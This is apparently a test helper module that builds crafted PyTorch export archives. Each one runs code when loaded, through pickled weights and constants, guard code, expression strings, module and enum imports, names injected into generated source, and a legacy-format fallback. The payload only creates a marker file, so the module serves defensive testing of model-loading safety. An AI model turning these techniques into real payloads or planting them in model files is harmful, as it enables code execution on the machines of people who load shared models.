"""Archives crafted so that reading them with torch runs code. The code only makes a file, so that a test can see whether it ran."""

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

Members = dict[str, bytes]
GRAPH = "models/model.json"
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"


class Bomb:
    """A pickle of this makes a file when it is read."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.marker,)


def code(marker: Path) -> str:
    """Return a Python expression that makes the file."""
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def pickled(marker: Path) -> bytes:
    """Return a bare pickle that makes the file."""
    return pickle.dumps(Bomb(marker))


def torch_saved(marker: Path) -> bytes:
    """Return a torch.save file whose pickle makes the file."""
    buffer = io.BytesIO()
    torch.save((Bomb(marker),), buffer)
    return buffer.getvalue()


def unpack(archive: bytes) -> Members:
    """Return the members of an archive, without the name of their common folder."""
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        return {name.partition("/")[2]: source.read(name) for name in source.namelist()}


def pack(members: Members, *, root: str = "model", compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return an archive of ``members``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as target:
        for name, content in members.items():
            target.writestr(name if "version" in members else f"{root}/{name}", content)  # the older format had no folder
    return buffer.getvalue()


def edit(members: Members, name: str, change: Callable[[Any], object]) -> None:
    """Change a JSON member in place."""
    value = json.loads(members[name])
    change(value)
    members[name] = json.dumps(value).encode()


def weight_unpickled(members: Members, marker: Path) -> None:
    members["data/weights/weight_0"] = torch_saved(marker)
    edit(members, WEIGHTS, lambda value: next(iter(value["config"].values())).update(use_pickle=True))


def constant_unpickled(members: Members, marker: Path) -> None:
    meta = next(iter(json.loads(members[WEIGHTS])["config"].values()))
    members["data/constants/tensor_0"] = torch_saved(marker)
    edit(
        members, CONSTANTS, lambda value: value["config"].update(c={**meta, "path_name": "tensor_0", "use_pickle": True, "is_param": False})
    )


def opaque_object(members: Members, marker: Path) -> None:
    members["data/constants/opaque_obj_0"] = pickled(marker)
    meta = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    edit(members, CONSTANTS, lambda value: value["config"].update(c=meta))


def sample_inputs(members: Members, marker: Path) -> None:
    members["data/sample_inputs/model.pt"] = torch_saved(marker)


def legacy_weights(members: Members, marker: Path) -> None:
    members["data/weights/model.pt"] = torch_saved(marker)


def legacy_constants(members: Members, marker: Path) -> None:
    members["data/constants/model.pt"] = torch_saved(marker)


def guards_executed(members: Members, marker: Path) -> None:
    """Guards are Python source. torch runs them when there are sample inputs, here harmless ones."""
    buffer = io.BytesIO()
    torch.save(((), {"signal": torch.zeros(4, 50)}), buffer)
    members["data/sample_inputs/model.pt"] = buffer.getvalue()
    edit(members, GRAPH, lambda value: value["guards_code"].append(f"[{code(marker)}]"))


def length_evaluated(members: Members, marker: Path) -> None:
    def change(value: Any) -> None:
        sizes = next(
            meta["sizes"] for meta in value["graph_module"]["graph"]["tensor_values"].values() if "as_expr" in (meta["sizes"] or [""])[0]
        )
        sizes[0] = {"as_expr": {"expr_str": f"[{code(marker)}, 4][1]", "hint": {"as_int": 4}}}

    edit(members, GRAPH, change)


def module_imported(members: Members, marker: Path) -> None:
    """A tree spec of a defaultdict imports the module it names."""
    (marker.parent / "imported_by_attack.py").write_text(f"{code(marker)}\nfactory = dict\n")
    context = {"default_factory_module": "imported_by_attack", "default_factory_name": "factory", "dict_context": "[]"}
    tree = {"type": "collections.defaultdict", "context": context, "children_spec": []}
    edit(members, GRAPH, lambda value: outermost(value).update(out_spec=json.dumps([1, tree])))


def enum_imported(members: Members, marker: Path) -> None:
    """The keys of a dict in a tree spec may be enums, which are imported."""
    (marker.parent / "imported_as_enum.py").write_text(f"import enum\n{code(marker)}\nclass E(enum.Enum):\n    a = 1\n")
    context = json.dumps([{"__enum__": True, "fqn": "imported_as_enum:E", "name": "a"}])
    tree = {"type": "builtins.dict", "context": context, "children_spec": [{"type": None, "context": None, "children_spec": []}]}
    edit(members, GRAPH, lambda value: outermost(value).update(out_spec=json.dumps([1, tree])))


def outermost(value: Any) -> dict[str, Any]:
    """Return the signature of the outermost call of a graph."""
    return next(call["signature"] for call in value["graph_module"]["module_call_graph"] if call["fqn"] == "")


def name_becomes_source(members: Members, marker: Path) -> None:
    """Names of values are written into Python source that fx executes; a default argument runs at once."""
    evil = f"signal=[{code(marker)}]"

    def change(value: Any) -> None:
        text = (
            json.dumps(value).replace('"name": "signal"', f'"name": {json.dumps(evil)}').replace('"signal": {', f"{json.dumps(evil)}: {{")
        )
        value.clear()
        value.update(json.loads(text))

    edit(members, GRAPH, change)


def insert_node(members: Members, **parts: Any) -> None:
    """Put a node before all others."""

    def change(value: Any) -> None:
        node = {"metadata": {}, "name": "evil", "is_hop_single_tensor_return": None, **parts}
        value["graph_module"]["graph"]["nodes"].insert(0, node)

    edit(members, GRAPH, change)


def keyword_becomes_source(members: Members, marker: Path) -> None:
    """Keyword arguments of a wrapper are written into the source as they are."""
    evil = {"name": f"a=[{code(marker)}], b", "arg": {"as_int": 1}, "kind": 2}
    target = "torch.ops.higher_order.wrap_with_set_grad_enabled"
    insert_node(members, target=target, inputs=[evil], outputs=[{"as_none": True}])


def file_made(members: Members, marker: Path) -> None:
    """An operator of aten that opens any file, and makes it when it is not there."""
    arguments = {"filename": {"as_string": str(marker)}, "shared": {"as_bool": True}, "size": {"as_int": 1}}
    inputs = [{"name": name, "arg": arg, "kind": 1} for name, arg in arguments.items()]
    insert_node(members, target="torch.ops.aten.from_file.default", inputs=inputs, outputs=[{"as_tensor": {"name": "evil"}}])
    meta = next(iter(json.loads(members[WEIGHTS])["config"].values()))["tensor_meta"]
    one = {**meta, "sizes": [{"as_int": 1}], "strides": [{"as_int": 1}], "requires_grad": False}
    edit(members, GRAPH, lambda value: value["graph_module"]["graph"]["tensor_values"].update(evil=one))


def older_format(members: Members, marker: Path) -> None:
    """When reading fails, torch tries the format of 2.7, whose members are pickles."""
    graph = members[GRAPH]
    members.clear()
    members |= {"version": b"8.20", "serialized_exported_program.json": graph, "serialized_constants.pt": torch_saved(marker)}
    members |= {"serialized_state_dict.pt": b"", "serialized_example_inputs.pt": b""}


ALIVE = [
    weight_unpickled,
    constant_unpickled,
    opaque_object,
    sample_inputs,
    legacy_weights,
    legacy_constants,
    older_format,
    guards_executed,
    length_evaluated,
    module_imported,
    enum_imported,
    name_becomes_source,
    keyword_becomes_source,
    file_made,
]
"""Attacks that do run code (or touch files) in the torch this project is locked to; a test shows it."""
